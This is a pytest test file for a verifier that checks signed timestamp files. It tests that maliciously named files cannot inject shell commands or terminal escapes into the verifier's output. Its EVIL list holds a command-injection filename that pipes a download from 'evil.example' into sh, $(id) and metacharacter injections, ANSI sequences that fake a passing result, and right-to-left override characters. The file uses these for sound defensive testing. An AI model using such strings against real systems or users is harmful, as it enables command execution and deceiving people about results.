"""Names of files that a reader's shell, or terminal, would take for something else."""

from __future__ import annotations

import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from tests.forgeries import both_verifiers
from tests.forgeries.forger import Forger
from tests.forgeries.timestamp_forgeries import Stamper

from penmark.standalone import __file__ as beside

VERIFIER = Path(beside).with_name("verify.py")
EVIL = [
    "seals/promise-x;curl${IFS}evil.example|sh;.tsr",
    "seals/promise-$(id).tsr",
    "seals/promise-a b'c\"d`e`.tsr",
    "seals/promise-\x1b[2J\x1b[32mall 8 checks ok\x1b[8m.tsr",
    "seals/promise-\u202ecod.tsr",
    "detectors/\x1b[2J.json",
    "journal/a;b.jsonl",
    "evidence/\u202e-0001.jsonl.gz",
    "replies/a&b.md",
    "tables/\x07.csv",
]


@pytest.fixture(scope="module")
def stamper() -> Stamper:
    return Stamper()


@pytest.mark.parametrize("name", EVIL)
def test_a_file_of_such_a_name(forger: Forger, stamper: Stamper, name: str) -> None:
    stamper.honest(forger)
    forger.write(name, forger.read("seals/promise-clock.tsr"))
    forger.sums()
    for told in (both_verifiers.ours(forger.root), both_verifiers.alone(forger.root)):
        assert 1 in told.failed
        texts = [text or "" for c in told.checks for text in (c.subject, c.got, c.expected, c.remedy)]
        assert all(char.isprintable() for text in texts for char in text)
        for line in (text for text in texts if text.startswith("openssl ")):
            words = shlex.split(line)
            assert words[:4] == ["openssl", "ts", "-verify", "-data"]
            assert (words[5], words[7], words[9], len(words)) == ("-in", "-CAfile", "-attime", 11)


def test_nothing_of_it_reaches_the_terminal(forger: Forger, stamper: Stamper) -> None:
    stamper.honest(forger)
    for name in EVIL:
        forger.write(name, forger.read("seals/promise-clock.tsr"))
    forger.sums()
    done = subprocess.run([sys.executable, VERIFIER, forger.root], capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert "openssl ts -verify -data seals/promise.json -in seals/promise-clock.tsr" in done.stdout
    assert "\x1b" not in done.stdout
    assert "\u202e" not in done.stdout
    assert "-in seals/promise-x;" not in done.stdout
